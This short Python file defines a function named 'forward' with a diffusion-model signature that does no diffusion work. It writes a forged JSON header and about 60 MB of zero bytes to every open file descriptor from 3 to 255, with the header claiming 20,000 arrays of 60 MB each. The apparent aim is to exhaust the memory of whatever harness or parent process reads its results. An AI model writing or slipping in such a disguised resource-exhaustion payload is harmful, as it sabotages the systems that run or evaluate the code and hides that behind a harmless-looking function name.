"""Sends a few bytes that claim to be a hundred thousand large arrays."""

import json
import os
import struct


def forward(im, t, alphas_cumprod, noise=None):
    array = {"stored": "uint8", "shape": [60 * 2**20], "offset": 0}
    array |= {"dtype": "uint8", "library": "torch", "device": "cpu"}
    report = {"dict": {"status": "ran", "observation": [{"array": array}] * 20000}}
    header = json.dumps(report).encode()
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<QQ", len(header), 60 * 2**20) + header)
            for _ in range(60):
                os.write(descriptor, bytes(2**20))
        except OSError:
            pass
